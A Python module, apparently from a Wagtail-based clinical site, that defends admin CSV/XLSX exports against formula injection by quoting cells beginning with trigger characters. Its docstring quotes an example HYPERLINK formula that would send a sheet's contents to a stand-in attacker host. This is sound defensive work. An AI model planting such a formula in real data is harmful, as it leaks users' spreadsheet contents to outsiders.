"""Spreadsheet exports that cannot run formulas (CSV and formula injection).

Every admin listing with "Download CSV / XLSX" goes through Wagtail's SpreadsheetExportMixin: this
project's "Clinical reviews due" report and Wagtail's own (search terms, which visitors type; site
history, locked and aging pages; workflows; redirects; form submissions; any snippet listing with
`list_export`). A spreadsheet program opening a CSV treats a cell beginning with `=`, `+`, `-`,
`@`, a tab or a carriage return as a formula, so a page title, clinician name or search term such
as `=HYPERLINK("http://evil.example/?"&A1,"x")` would become a live link that sends the sheet's
contents away. `neutralise_formula` prefixes such cells with a single quote (the OWASP rule), and
`protect_spreadsheet_exports` makes every export use it.

XLSX cells are typed: Wagtail already writes every value as a string cell, never a formula; the
headings (written without that care) go through `neutralise_formula` as well.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

from practice.wagtail_internals import wrap_spreadsheet_exports

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """`value`, with a leading single quote if it is text a spreadsheet would run as a formula.
    Numbers, dates and empty cells are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _neutralise_csv_cell(value, export_format):
    if export_format == SpreadsheetExportMixin.FORMAT_CSV:
        return neutralise_formula(value)
    return value  # XLSX: generate_xlsx_row() turns anything openpyxl sees as a formula into text


def protect_spreadsheet_exports():
    """Make every SpreadsheetExportMixin view (Wagtail's and ours) neutralise formulas: each CSV
    body cell and every heading. Called once from PracticeConfig.ready(), before any admin URL
    is served. Wagtail has no setting or hook for this (see
    `practice.wagtail_internals.wrap_spreadsheet_exports`). Idempotent."""
    wrap_spreadsheet_exports(cell=_neutralise_csv_cell, heading=neutralise_formula)
